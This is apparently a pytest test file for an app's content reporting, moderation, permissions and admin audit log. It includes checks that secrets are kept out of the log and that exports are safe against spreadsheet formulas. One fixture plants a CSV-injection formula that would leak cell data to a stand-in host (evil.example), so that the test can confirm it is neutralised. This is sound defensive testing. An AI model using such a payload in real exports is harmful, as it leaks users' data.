"""Reports and moderation as people and admins see them, and the audit log of admins' changes:
a report hides a video from the people it was shared with (not from its author or admins) and
tells its author why; comments are hidden alone; decisions are idempotent; nobody reports
what they cannot see; every admin change lands in the audit log without a secret, and the log
exports as CSV (formulas neutralised) and NDJSON."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import uuid
from datetime import timedelta
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from fieldcast import audit
from fieldcast.accounts import invitations
from fieldcast.audit import AuditAction
from fieldcast.context import AppContext
from fieldcast.db import utcnow
from fieldcast.models.accounts import Invitation
from fieldcast.models.conversation import Comment
from fieldcast.models.devices import Device, Platform
from fieldcast.models.inbox import Notification
from fieldcast.models.moderation import AuditEntry, Report
from fieldcast.models.sharing import RecipientState, ShareRecipient
from fieldcast.models.videos import Video, VideoStatus
from fieldcast.moderation import audit_log
from fieldcast.policy import Principal
from tests import factories
from tests.api_support import share_video
from tests.conftest import SECRET_KEY
from tests.push_support import RecordingSink
from tests.worker_support import drain_outbox as drain

PROBLEM_JSON = "application/problem+json"
REASON = "Customer prices must not circulate outside the deal team."
SLACK_URL = "https://hooks.slack.com/services/T0000/B0000/secretpartofthewebhook"


def _video(session: Session, owner: Any, title: str = "Discovery call") -> Video:
    video = Video(org_id=owner.org_id, owner_id=owner.id, title=title, status=VideoStatus.PLAYABLE)
    session.add(video)
    session.flush()
    return video


def _comment(session: Session, video: Video, author: Any, body: str = "Nice close") -> Comment:
    comment = Comment(org_id=video.org_id, video_id=video.id, author_id=author.id, body=body)
    session.add(comment)
    session.flush()
    return comment


def _phone(session: Session, user: Any, locale: str | None = None) -> Device:
    device = Device(
        org_id=user.org_id,
        user_id=user.id,
        token=f"token-{user.id}",
        platform=Platform.ANDROID,
        locale=locale,
        last_registered_at=utcnow(),
    )
    session.add(device)
    session.flush()
    return device


def _ok(response: Any, status: int = 200) -> Any:
    assert response.status_code == status, response.get_data(as_text=True)
    return response.get_json()


def _problem(response: Any, status: int, code: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == PROBLEM_JSON
    body: dict[str, Any] = response.get_json()
    if code is not None:
        assert body["code"] == code, body
    return body


def _report(client: FlaskClient, headers: dict[str, str], **body: Any) -> Any:
    return client.post(
        "/api/v1/reports",
        json={
            key: str(value) if isinstance(value, uuid.UUID) else value
            for key, value in body.items()
        },
        headers=headers,
    )


def _entries(session: Session, org: Any, action: AuditAction | None = None) -> list[AuditEntry]:
    stmt = select(AuditEntry).where(AuditEntry.org_id == org.id)
    if action is not None:
        stmt = stmt.where(AuditEntry.action == action.value)
    return list(session.scalars(stmt.order_by(AuditEntry.id)))


def _items_of_type(client: FlaskClient, headers: dict[str, str], kind: str) -> list[Any]:
    items = _ok(client.get("/api/v1/notifications", headers=headers))["items"]
    return [item for item in items if item["type"] == kind]


# -- reporting and hiding a video -----------------------------------------------------------------


def test_a_hidden_video_is_gone_for_its_recipients_and_its_author_is_told_why(
    client: FlaskClient,
    session: Session,
    org: Any,
    admin: Any,
    rep: Any,
    auth: Any,
    context: AppContext,
    sink: RecordingSink,
) -> None:
    peer, other = factories.UserFactory(org=org), factories.UserFactory(org=org)
    video = _video(session, rep)
    _phone(session, rep, locale="de-DE")
    _phone(session, peer)
    session.commit()
    share_video(client, auth(rep), video, peer, other)
    token = _ok(client.get("/api/v1/videos", headers=auth(peer)))["sync_token"]

    first = _report(
        client, auth(peer), video_id=video.id, reason="confidential", details="Acme's prices"
    )
    report = _ok(first, 201)
    assert report["video_id"] == str(video.id) and report["comment_id"] is None
    assert (report["status"], report["reason"], report["details"]) == (
        "open",
        "confidential",
        "Acme's prices",
    )
    # Reporting again while the report is open answers it, and adds nothing.
    again = _report(client, auth(peer), video_id=video.id, reason="spam")
    assert _ok(again, 200) == report
    second = _ok(_report(client, auth(other), video_id=video.id, reason="other"), 201)
    assert session.scalar(select(func.count()).select_from(Report)) == 2

    queue = _ok(client.get("/api/v1/reports?status=open", headers=auth(admin)))
    assert [r["id"] for r in queue["items"]] == [second["id"], report["id"]]

    hidden = _ok(
        client.post(
            f"/api/v1/reports/{report['id']}/hide", json={"reason": REASON}, headers=auth(admin)
        )
    )
    assert hidden["status"] == "hidden" and hidden["resolution_note"] == REASON
    assert hidden["resolved_by_id"] == str(admin.id) and hidden["resolved_at"]
    # Every open report of the video is decided with it.
    other_report = _ok(client.get(f"/api/v1/reports/{second['id']}", headers=auth(admin)))
    assert other_report["status"] == "hidden"
    assert _ok(client.get("/api/v1/reports?status=open", headers=auth(admin)))["items"] == []

    # Gone for the people it was shared with: the video, their lists, their feeds.
    _problem(client.get(f"/api/v1/videos/{video.id}", headers=auth(peer)), 404, "not_found")
    delta = _ok(
        client.get("/api/v1/videos", query_string={"updated_since": token}, headers=auth(peer))
    )
    assert delta["deleted"] == [str(video.id)] and delta["items"] == []
    assert _ok(client.get("/api/v1/feed", headers=auth(peer)))["items"] == []
    # Its author and the admins still see it.
    assert client.get(f"/api/v1/videos/{video.id}", headers=auth(rep)).status_code == 200
    assert client.get(f"/api/v1/videos/{video.id}", headers=auth(admin)).status_code == 200
    # Gone means gone for reporting too.
    _problem(_report(client, auth(peer), video_id=video.id, reason="spam"), 404, "not_found")

    # The author's inbox says why.
    [told] = _items_of_type(client, auth(rep), "content.hidden")
    assert told["title"] == "Your post on “Discovery call” was hidden"
    assert told["body"] == REASON
    assert told["data"] == {"video_id": str(video.id)}

    # Pushes: the author's, worded in their phone's language with the admin's reason; the
    # share's push to the recipient, not yet sent when the video was hidden, never goes.
    drain(context)
    [pushed] = [m for m in sink.sent if m.user_id == rep.id]
    assert pushed.type == "content.hidden"
    assert pushed.title == "Dein Beitrag zu „Discovery call“ wurde ausgeblendet"
    assert pushed.body == REASON and pushed.body_loc_key is None
    assert pushed.title_loc_key == "content_hidden_title"
    assert pushed.data["video_id"] == str(video.id)
    assert [m for m in sink.sent if m.user_id == peer.id] == []
    row = session.scalars(select(ShareRecipient).where(ShareRecipient.user_id == peer.id)).one()
    assert (row.state, row.failure_reason) == (RecipientState.FAILED, "video_hidden")

    # Hiding again changes nothing and tells nobody twice.
    assert (
        _ok(
            client.post(
                f"/api/v1/reports/{report['id']}/hide",
                json={"reason": "Other"},
                headers=auth(admin),
            )
        )
        == hidden
    )
    kinds = session.scalars(select(Notification.type).where(Notification.user_id == rep.id)).all()
    assert kinds.count("content.hidden") == 1
    [entry] = _entries(session, org, AuditAction.VIDEO_HIDDEN)
    assert (entry.actor_id, entry.object_type, entry.object_id) == (admin.id, "video", video.id)
    assert entry.details == {
        "report_id": report["id"],
        "video_id": str(video.id),
        "reason": REASON,
        "reports_closed": 2,
        "already_hidden": False,
    }


def test_an_unhidden_video_is_back_for_its_recipients(
    client: FlaskClient, session: Session, org: Any, admin: Any, rep: Any, auth: Any
) -> None:
    peer = factories.UserFactory(org=org)
    video = _video(session, rep)
    share_video(client, auth(rep), video, peer)
    report = _ok(_report(client, auth(peer), video_id=video.id, reason="misleading"), 201)
    _ok(
        client.post(
            f"/api/v1/reports/{report['id']}/hide", json={"reason": REASON}, headers=auth(admin)
        )
    )
    token = _ok(client.get("/api/v1/videos", headers=auth(peer)))["sync_token"]
    assert client.get(f"/api/v1/videos/{video.id}", headers=auth(peer)).status_code == 404

    url = f"/api/v1/moderation/videos/{video.id}/unhide"
    _problem(client.post(url, headers=auth(rep)), 403, "permission_denied")
    shown = _ok(client.post(url, headers=auth(admin)))
    assert shown == {
        "video_id": str(video.id),
        "comment_id": None,
        "hidden_at": None,
        "hidden_reason": None,
    }
    assert client.get(f"/api/v1/videos/{video.id}", headers=auth(peer)).status_code == 200
    delta = _ok(
        client.get("/api/v1/videos", query_string={"updated_since": token}, headers=auth(peer))
    )
    assert [v["id"] for v in delta["items"]] == [str(video.id)] and delta["deleted"] == []
    # Again: answered as it is, recorded once. The report keeps its decision.
    assert _ok(client.post(url, headers=auth(admin))) == shown
    [entry] = _entries(session, org, AuditAction.VIDEO_UNHIDDEN)
    assert entry.details["previous_reason"] == REASON and entry.object_id == video.id
    decided = _ok(client.get(f"/api/v1/reports/{report['id']}", headers=auth(admin)))
    assert decided["status"] == "hidden"
    # A new report may be made of it now.
    assert _report(client, auth(peer), video_id=video.id, reason="spam").status_code == 201


# -- comments -------------------------------------------------------------------------------------


def test_a_reported_comment_names_its_video_and_only_the_comment_is_hidden(
    client: FlaskClient, session: Session, org: Any, admin: Any, rep: Any, auth: Any
) -> None:
    peer = factories.UserFactory(org=org)
    video = _video(session, rep)
    share_video(client, auth(rep), video, peer)
    comment = _comment(session, video, peer, "Their CFO is clueless")

    # The commenter cannot report their own comment; the video's author can.
    _problem(
        _report(client, auth(peer), comment_id=comment.id, reason="spam"),
        422,
        "cannot_report_own_content",
    )
    report = _ok(_report(client, auth(rep), comment_id=comment.id, reason="harassment"), 201)
    assert (report["comment_id"], report["video_id"]) == (str(comment.id), str(video.id))
    stored = session.get(Report, uuid.UUID(report["id"]))
    assert stored is not None and stored.video_id == video.id

    _ok(
        client.post(
            f"/api/v1/reports/{report['id']}/hide", json={"reason": REASON}, headers=auth(admin)
        )
    )
    session.refresh(comment)
    assert comment.hidden_at is not None and comment.hidden_reason == REASON
    # The video is untouched: its recipients still see it.
    assert client.get(f"/api/v1/videos/{video.id}", headers=auth(peer)).status_code == 200
    session.refresh(video)
    assert video.hidden_at is None
    [told] = _items_of_type(client, auth(peer), "content.hidden")
    assert told["data"] == {"video_id": str(video.id), "comment_id": str(comment.id)}
    assert told["body"] == REASON
    assert _items_of_type(client, auth(rep), "content.hidden") == []
    # A hidden comment shows nothing to report.
    _problem(_report(client, auth(admin), comment_id=comment.id, reason="spam"), 404, "not_found")

    url = f"/api/v1/moderation/comments/{comment.id}/unhide"
    _problem(client.post(url, headers=auth(rep)), 403, "permission_denied")
    shown = _ok(client.post(url, headers=auth(admin)))
    assert shown == {
        "video_id": str(video.id),
        "comment_id": str(comment.id),
        "hidden_at": None,
        "hidden_reason": None,
    }
    session.refresh(comment)
    assert comment.hidden_at is None and comment.hidden_reason is None
    actions = [(e.action, e.object_id) for e in _entries(session, org)]
    assert actions == [("comment.hidden", comment.id), ("comment.unhidden", comment.id)]


# -- dismissing ------------------------------------------------------------------------------------


def test_dismissing_keeps_the_content_and_closes_that_report_only(
    client: FlaskClient, session: Session, org: Any, admin: Any, rep: Any, auth: Any
) -> None:
    peer, other = factories.UserFactory(org=org), factories.UserFactory(org=org)
    video = _video(session, rep)
    share_video(client, auth(rep), video, peer, other)
    first = _ok(_report(client, auth(peer), video_id=video.id, reason="spam"), 201)
    second = _ok(_report(client, auth(other), video_id=video.id, reason="spam"), 201)

    url = f"/api/v1/reports/{first['id']}/dismiss"
    dismissed = _ok(
        client.post(url, json={"note": "The price list is public"}, headers=auth(admin))
    )
    assert dismissed["status"] == "dismissed"
    assert dismissed["resolution_note"] == "The price list is public"
    # Again, with no body: answered as it is.
    assert _ok(client.post(url, headers=auth(admin))) == dismissed
    assert (
        _ok(client.get(f"/api/v1/reports/{second['id']}", headers=auth(admin)))["status"] == "open"
    )
    assert client.get(f"/api/v1/videos/{video.id}", headers=auth(peer)).status_code == 200
    # A dismissed report leaves its reporter free to report again.
    third = _ok(_report(client, auth(peer), video_id=video.id, reason="misleading"), 201)
    assert third["id"] != first["id"]

    [entry] = _entries(session, org, AuditAction.REPORT_DISMISSED)
    assert (entry.object_type, entry.object_id, entry.actor_id) == (
        "report",
        uuid.UUID(first["id"]),
        admin.id,
    )
    assert entry.details["note"] == "The price list is public"

    # A report the content was hidden on is not dismissed: show the content again instead.
    _ok(
        client.post(
            f"/api/v1/reports/{second['id']}/hide", json={"reason": REASON}, headers=auth(admin)
        )
    )
    _problem(
        client.post(f"/api/v1/reports/{second['id']}/dismiss", headers=auth(admin)),
        409,
        "report_resolved",
    )
    # The kept one stays kept; the others were decided with the hiding.
    listed = _ok(client.get("/api/v1/reports", headers=auth(admin)))["items"]
    assert {r["id"]: r["status"] for r in listed} == {
        first["id"]: "dismissed",
        second["id"]: "hidden",
        third["id"]: "hidden",
    }


# -- who may report, and who may decide ----------------------------------------------------------


def test_nobody_reports_what_they_cannot_see(
    client: FlaskClient,
    session: Session,
    org: Any,
    admin: Any,
    rep: Any,
    outsider: Any,
    auth: Any,
) -> None:
    bystander = factories.UserFactory(org=org)
    video = _video(session, rep)
    comment = _comment(session, video, admin)
    for who in (bystander, outsider):
        for target in ({"video_id": video.id}, {"comment_id": comment.id}):
            _problem(_report(client, auth(who), reason="spam", **target), 404, "not_found")
    _problem(
        _report(client, auth(rep), video_id=video.id, reason="spam"),
        422,
        "cannot_report_own_content",
    )
    for body in ({}, {"video_id": video.id, "comment_id": comment.id}):
        refused = _problem(_report(client, auth(rep), reason="spam", **body), 422)
        assert set(refused["errors"]) >= {"video_id", "comment_id"}
    too_long = _report(client, auth(rep), comment_id=comment.id, reason="spam", details="x" * 1001)
    assert "details" in _problem(too_long, 422, "validation_failed")["errors"]
    unknown = _report(client, auth(rep), comment_id=comment.id, reason="boring")
    assert "reason" in _problem(unknown, 422, "validation_failed")["errors"]
    _problem(_report(client, auth(rep), comment_id=uuid.uuid4(), reason="spam"), 404)
    assert session.scalar(select(func.count()).select_from(Report)) == 0


def test_reports_and_hidden_content_of_another_organisation_do_not_exist(
    client: FlaskClient,
    session: Session,
    org: Any,
    admin: Any,
    rep: Any,
    outsider: Any,
    auth: Any,
) -> None:
    video = _video(session, rep)
    comment = _comment(session, video, admin)
    report = _ok(_report(client, auth(admin), video_id=video.id, reason="spam"), 201)
    foreign = auth(outsider)  # an admin, of another organisation
    for method, path, body in (
        ("GET", f"/api/v1/reports/{report['id']}", None),
        ("POST", f"/api/v1/reports/{report['id']}/hide", {"reason": "Mine now"}),
        ("POST", f"/api/v1/reports/{report['id']}/dismiss", {}),
        ("POST", f"/api/v1/moderation/videos/{video.id}/unhide", None),
        ("POST", f"/api/v1/moderation/comments/{comment.id}/unhide", None),
    ):
        _problem(client.open(path, method=method, json=body, headers=foreign), 404, "not_found")
    assert _ok(client.get("/api/v1/reports", headers=foreign))["items"] == []
    assert _ok(client.get("/api/v1/audit-log", headers=foreign))["items"] == []
    session.refresh(video)
    assert video.hidden_at is None
    assert (
        _ok(client.get(f"/api/v1/reports/{report['id']}", headers=auth(admin)))["status"] == "open"
    )


def test_only_admins_read_and_decide_reports_and_read_the_audit_log(
    client: FlaskClient, session: Session, org: Any, admin: Any, rep: Any, auth: Any
) -> None:
    video = _video(session, rep)
    comment = _comment(session, video, admin)
    report = _ok(_report(client, auth(admin), video_id=video.id, reason="spam"), 201)
    for user in (
        rep,
        factories.UserFactory(org=org, manager=True),
        factories.UserFactory(org=org, enablement=True),
    ):
        headers = auth(user)
        for method, path, body in (
            ("GET", "/api/v1/reports", None),
            ("GET", f"/api/v1/reports/{report['id']}", None),
            ("POST", f"/api/v1/reports/{report['id']}/hide", {"reason": "No"}),
            ("POST", f"/api/v1/reports/{report['id']}/dismiss", {}),
            ("POST", f"/api/v1/moderation/videos/{video.id}/unhide", None),
            ("POST", f"/api/v1/moderation/comments/{comment.id}/unhide", None),
            ("GET", "/api/v1/audit-log", None),
            ("GET", "/api/v1/audit-log/export", None),
        ):
            response = client.open(path, method=method, json=body, headers=headers)
            _problem(response, 403, "permission_denied")
    assert (
        _ok(client.get(f"/api/v1/reports/{report['id']}", headers=auth(admin)))["status"] == "open"
    )


# -- the audit log --------------------------------------------------------------------------------


def test_every_admin_change_to_people_and_permissions_is_in_the_audit_log(
    client: FlaskClient, session: Session, org: Any, admin: Any, rep: Any, auth: Any
) -> None:
    h = auth(admin)
    user = _ok(
        client.post(
            "/api/v1/users",
            json={
                "email": "jane.doe@example.com",
                "display_name": "Jane Doe",
                "handle": "jane_doe",
                "password": "a-long-enough-password",
            },
            headers=h,
        ),
        201,
    )
    user_url = f"/api/v1/users/{user['id']}"
    _ok(client.patch(user_url, json={"role": "manager", "display_name": "Jane Q. Doe"}, headers=h))
    _ok(client.patch(user_url, json={"password": "another-long-password"}, headers=h))
    _ok(client.patch(user_url, json={"role": "manager"}, headers=h))  # no change: no entry
    _ok(client.patch(user_url, json={"is_active": False}, headers=h))
    team = _ok(client.post("/api/v1/teams", json={"name": "West"}, headers=h), 201)
    team_url = f"/api/v1/teams/{team['id']}"
    _ok(client.patch(team_url, json={"name": "West Coast", "description": "Reps"}, headers=h))
    member_url = f"{team_url}/members/{rep.id}"
    _ok(client.put(member_url, json={"role": "lead"}, headers=h))
    _ok(client.put(member_url, json={"role": "lead"}, headers=h))  # no change: no entry
    assert client.delete(member_url, headers=h).status_code == 204
    token = _ok(client.post("/api/v1/api-tokens", json={"name": "CRM sync"}, headers=h), 201)
    assert client.delete(f"/api/v1/api-tokens/{token['id']}", headers=h).status_code == 204
    assert client.delete(f"/api/v1/api-tokens/{token['id']}", headers=h).status_code == 204
    invited = _ok(
        client.post(
            "/api/v1/invitations",
            json={"email": "sam.invited@example.com", "role": "manager", "team_ids": [team["id"]]},
            headers=h,
        ),
        201,
    )
    _ok(client.post(f"/api/v1/invitations/{invited['id']}/resend", headers=h))
    assert client.delete(f"/api/v1/invitations/{invited['id']}", headers=h).status_code == 204
    hook = _ok(
        client.post(f"{team_url}/webhooks", json={"kind": "slack", "url": SLACK_URL}, headers=h),
        201,
    )
    assert client.delete(f"{team_url}/webhooks/{hook['id']}", headers=h).status_code == 204
    assert client.delete(team_url, headers=h).status_code == 204
    assert client.delete(user_url, headers=h).status_code == 204

    page = _ok(client.get("/api/v1/audit-log", query_string={"limit": 100}, headers=h))
    entries = list(reversed(page["items"]))  # oldest first, to read in order
    assert [(e["action"], e["object_type"]) for e in entries] == [
        ("user.created", "user"),
        ("user.updated", "user"),
        ("user.updated", "user"),
        ("user.updated", "user"),
        ("team.created", "team"),
        ("team.updated", "team"),
        ("team.member_set", "team"),
        ("team.member_removed", "team"),
        ("api_token.created", "api_token"),
        ("api_token.revoked", "api_token"),
        ("invitation.created", "invitation"),
        ("invitation.resent", "invitation"),
        ("invitation.revoked", "invitation"),
        ("webhook.created", "team_webhook"),
        ("webhook.deleted", "team_webhook"),
        ("team.deleted", "team"),
        ("user.deleted", "user"),
    ]
    assert {e["actor_id"] for e in entries} == {str(admin.id)}
    details = [e["details"] for e in entries]
    assert details[0] == {"role": "rep", "manager_id": None, "can_sign_in": True}
    # Which fields changed; values only of what grants access.
    assert details[1] == {
        "fields": ["display_name", "role"],
        "changes": {"role": {"from": "rep", "to": "manager"}},
    }
    assert details[2] == {"fields": ["password"], "changes": {}}
    assert details[3] == {
        "fields": ["is_active"],
        "changes": {"is_active": {"from": True, "to": False}},
    }
    assert details[4] == {"name": "West", "handle": "west", "parent_id": None}
    assert details[5] == {
        "fields": ["name", "description"],
        "changes": {"name": {"from": "West", "to": "West Coast"}},
    }
    assert details[6] == {"user_id": str(rep.id), "role": "lead", "previous_role": None}
    assert details[7] == {"user_id": str(rep.id)}
    assert details[8] == {"name": "CRM sync", "user_id": str(admin.id), "expires_at": None}
    assert entries[8]["object_id"] == token["id"]
    assert details[10] == {"role": "manager", "team_ids": [team["id"]]}
    assert details[13] == {"team_id": team["id"], "kind": "slack", "host": "hooks.slack.com"}
    assert details[16] == {"own_account": False}

    # No secret, and nothing that names the person, in any entry.
    stored = json.dumps([e.details for e in _entries(session, org)])
    for secret in (
        token["token"],
        token["prefix"],
        hashlib.sha256(token["token"].encode()).hexdigest(),
        SLACK_URL,
        "secretpartofthewebhook",
        "a-long-enough-password",
        "another-long-password",
        "jane.doe@example.com",
        "sam.invited@example.com",
        "Jane",
    ):
        assert secret not in stored, secret
    assert [e.details for e in _entries(session, org)] == [e["details"] for e in entries]

    # Filters: action, actor, object, time; pages newest first.
    def listed(**query: Any) -> list[Any]:
        return _ok(client.get("/api/v1/audit-log", query_string=query, headers=h))["items"]

    assert [e["id"] for e in listed(action="user.updated")] == [e["id"] for e in entries[3:0:-1]]
    assert [e["action"] for e in listed(object_id=user["id"])] == [
        "user.deleted",
        "user.updated",
        "user.updated",
        "user.updated",
        "user.created",
    ]
    assert listed(actor_id=str(rep.id)) == []
    assert len(listed(actor_id=str(admin.id))) == len(entries)
    later = (utcnow() + timedelta(minutes=1)).isoformat()
    assert listed(since=later) == [] and len(listed(until=later)) == len(entries)
    first = _ok(client.get("/api/v1/audit-log", query_string={"limit": 10}, headers=h))
    rest = _ok(
        client.get(
            "/api/v1/audit-log",
            query_string={"limit": 10, "cursor": first["next_cursor"]},
            headers=h,
        )
    )
    assert [e["id"] for e in first["items"] + rest["items"]] == [e["id"] for e in page["items"]]
    assert rest["next_cursor"] is None
    backwards = client.get(
        "/api/v1/audit-log", query_string={"since": later, "until": utcnow().isoformat()}, headers=h
    )
    assert "until" in _problem(backwards, 422, "validation_failed")["errors"]


def test_accepting_an_invitation_and_deleting_ones_own_account_are_recorded(
    client: FlaskClient, session: Session, org: Any, admin: Any, rep: Any, auth: Any
) -> None:
    team = factories.TeamFactory(org=org)
    invitation = invitations.invite(
        session,
        Principal(user=admin),
        secret_key=SECRET_KEY,
        ttl=timedelta(days=1),
        email="dana@example.com",
        team_ids=[team.id],
    )
    stored = session.get(Invitation, invitation.id)
    assert stored is not None
    person = invitations.accept(
        session,
        token=invitations.token_for(SECRET_KEY, stored),
        password="a-long-enough-password",
        handle="dana",
        display_name="Dana",
    )
    [joined] = _entries(session, org, AuditAction.USER_CREATED)
    assert (joined.actor_id, joined.object_id) == (person.id, person.id)
    assert joined.details == {
        "role": "rep",
        "via": "invitation",
        "invitation_id": str(invitation.id),
        "invited_by_id": str(admin.id),
        "team_ids": [str(team.id)],
    }

    gone = client.delete("/api/v1/me", json={"password": factories.PASSWORD}, headers=auth(rep))
    assert gone.status_code == 204
    [deleted] = _entries(session, org, AuditAction.USER_DELETED)
    assert (deleted.actor_id, deleted.object_id, deleted.details) == (
        rep.id,
        rep.id,
        {"own_account": True},
    )


def test_an_api_token_change_through_an_api_token_names_the_token_and_never_a_secret(
    client: FlaskClient, session: Session, org: Any, admin: Any, auth: Any
) -> None:
    integration = _ok(
        client.post("/api/v1/api-tokens", json={"name": "Provisioning"}, headers=auth(admin)), 201
    )
    via_token = {"Authorization": f"Bearer {integration['token']}"}
    made = _ok(client.post("/api/v1/api-tokens", json={"name": "BI"}, headers=via_token), 201)
    entry = _entries(session, org, AuditAction.API_TOKEN_CREATED)[-1]
    assert entry.object_id == uuid.UUID(made["id"])
    assert entry.details["api_token_id"] == integration["id"]
    text = json.dumps([e.details for e in _entries(session, org)])
    assert made["token"] not in text and integration["token"] not in text

    # The log refuses a detail whose name says it holds a secret, however deep.
    principal = Principal(user=admin)
    for details in (
        {"token": "fct_x"},
        {"token_hash": "ab"},
        {"webhook_url": "https://hooks.slack.com/x"},
        {"changes": {"password": {"from": "a", "to": "b"}}},
    ):
        with pytest.raises(ValueError, match="secret"):
            audit.record(
                session, principal, AuditAction.API_TOKEN_CREATED, "api_token", None, details
            )


def test_the_audit_log_exports_as_csv_and_ndjson_with_formulas_neutralised(
    client: FlaskClient, session: Session, org: Any, auth: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    sly = factories.UserFactory(org=org, admin=True, display_name=formula)
    h = auth(sly)
    for name in ("+1 Enterprise", "-West", "@Partners"):
        _ok(client.post("/api/v1/teams", json={"name": name}, headers=h), 201)

    exported = client.get("/api/v1/audit-log/export", headers=h)
    assert exported.status_code == 200, exported.get_data(as_text=True)
    assert exported.mimetype == "text/csv"
    disposition = exported.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="audit-log-')
    assert disposition.endswith('.csv"')
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    assert rows[0] == list(audit_log.COLUMNS)
    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    # Newest first; the export began before its own entry was written.
    assert [json.loads(row["details"])["name"] for row in body] == [
        "@Partners",
        "-West",
        "+1 Enterprise",
    ]
    for row in body:
        assert row["action"] == "team.created" and row["actor_id"] == str(sly.id)
        assert row["actor_name"] == "'" + formula
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    ndjson = client.get(
        "/api/v1/audit-log/export",
        query_string={"format": "ndjson", "action": "team.created"},
        headers=h,
    )
    assert ndjson.status_code == 200 and ndjson.mimetype == "application/x-ndjson"
    assert ndjson.headers["Content-Disposition"].endswith('.ndjson"')
    lines = [json.loads(line) for line in ndjson.get_data(as_text=True).splitlines()]
    assert [line["details"]["name"] for line in lines] == ["@Partners", "-West", "+1 Enterprise"]
    assert {line["actor_name"] for line in lines} == {formula}  # JSON is data, not a formula
    assert set(lines[0]) == set(audit_log.COLUMNS)

    # Each export is recorded, with its format, filters and size.
    recorded = _entries(session, org, AuditAction.AUDIT_LOG_EXPORTED)
    assert [e.details for e in recorded] == [
        {"format": "csv", "filters": {}, "rows": 3},
        {"format": "ndjson", "filters": {"action": "team.created"}, "rows": 3},
    ]

    # Past the cap nothing is sent: narrow the export instead.
    monkeypatch.setattr(audit_log, "EXPORT_MAX_ROWS", 4)
    too_many = client.get("/api/v1/audit-log/export", headers=h)
    _problem(too_many, 422, "export_too_large")
    narrowed = client.get(
        "/api/v1/audit-log/export", query_string={"action": "team.created"}, headers=h
    )
    assert narrowed.status_code == 200
    assert len(list(csv.reader(io.StringIO(narrowed.get_data(as_text=True))))) == 4


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("West", "West"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str, shown: str) -> None:
    assert audit_log.neutralised(cell) == shown
